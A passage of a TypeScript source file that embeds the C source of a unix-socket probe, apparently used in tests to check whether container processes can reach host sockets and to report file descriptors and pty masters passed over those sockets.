 * Unix-socket probe. `sockprobe listen <path> <tag>`: reports every connection as "ACCEPTED <tag>"
 * and, once its first message is in, "CONNECTION <tag> fds=<n> msg=<first bytes>" (a received pty master is read for up to 10 s, its
 * output as "PTY <tag> <line>"). `sockprobe connect <path> <tag>`: "CONNECTED <tag>" or
 * "CONNECT-FAILED <tag> <errno>". Static: runs on the host and in the busybox rootfs alike.
 */
export const SOCK_PROBE = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

/* sockprobe listen <path> <tag>: binds a unix stream socket at <path> and reports every connection
 *   as "ACCEPTED <tag>", then "CONNECTION <tag> fds=<n> msg=<first bytes>"; a received pty master (message "/dev/...")
 *   is read by a child for up to 10 s and its output reported as "PTY <tag> <line>".
 * sockprobe connect <path> <tag>: connects (and sends "probe-connect") as a container process
 *   would; prints "CONNECTED <tag>" or "CONNECT-FAILED <tag> <errno>". */
static void addr(struct sockaddr_un *sa, const char *path) {
  memset(sa, 0, sizeof *sa);
  sa->sun_family = AF_UNIX;
  snprintf(sa->sun_path, sizeof sa->sun_path, "%s", path);
}

static void read_pty(int fd, const char *tag) {
  char line[512];
  size_t len = 0;
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  for (;;) {
    struct pollfd p = { fd, POLLIN, 0 };
    clock_gettime(CLOCK_MONOTONIC, &t);
    if (t.tv_sec - t0.tv_sec > 10) break;
    if (poll(&p, 1, 500) <= 0) continue;
    char c;
    ssize_t n = read(fd, &c, 1);
    if (n <= 0) break;
    if (c == '\r') continue;
    if (c == '\n' || len == sizeof line - 1) {
      line[len] = 0;
      printf("PTY %s %s\n", tag, line); fflush(stdout);
      len = 0;
      continue;
    }
    line[len++] = c;
  }
  if (len) { line[len] = 0; printf("PTY %s %s\n", tag, line); fflush(stdout); }
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  struct sockaddr_un sa;
  addr(&sa, argv[2]);
  const char *tag = argv[3];
  setvbuf(stdout, NULL, _IONBF, 0);
  if (!strcmp(argv[1], "connect")) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) { printf("CONNECT-FAILED %s %d\n", tag, errno); return 1; }
    write(s, "probe-connect", 13);
    printf("CONNECTED %s\n", tag);
    return 0;
  }
  signal(SIGCHLD, SIG_IGN);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  unlink(argv[2]);
  if (bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 16) < 0) { printf("LISTEN-FAILED %s %d\n", tag, errno); return 1; }
  printf("LISTENING %s %s\n", tag, argv[2]);
  for (;;) {
    int c = accept(s, 0, 0);
    if (c < 0) continue;
    printf("ACCEPTED %s\n", tag);
    char msg[256] = {0};
    char cbuf[CMSG_SPACE(8 * sizeof(int))];
    struct iovec iov = { msg, sizeof msg - 1 };
    struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf };
    ssize_t n = recvmsg(c, &m, 0);
    int nfds = 0, fds[8];
    for (struct cmsghdr *h = CMSG_FIRSTHDR(&m); h; h = CMSG_NXTHDR(&m, h))
      if (h->cmsg_level == SOL_SOCKET && h->cmsg_type == SCM_RIGHTS)
        for (size_t i = 0; i < (h->cmsg_len - CMSG_LEN(0)) / sizeof(int) && nfds < 8; i++) fds[nfds++] = ((int *)CMSG_DATA(h))[i];
    if (n > 0) msg[n] = 0;
    for (char *q = msg; *q; q++) if (*q == '\n' || *q == '\r') *q = ' ';
    printf("CONNECTION %s fds=%d msg=%.80s\n", tag, nfds, n > 0 ? msg : "");
    close(c);
    if (nfds > 0 && !strncmp(msg, "/dev/", 5) && fork() == 0) { read_pty(fds[0], tag); _exit(0); }
    for (int i = 0; i < nfds; i++) close(fds[i]);
  }
}
`;
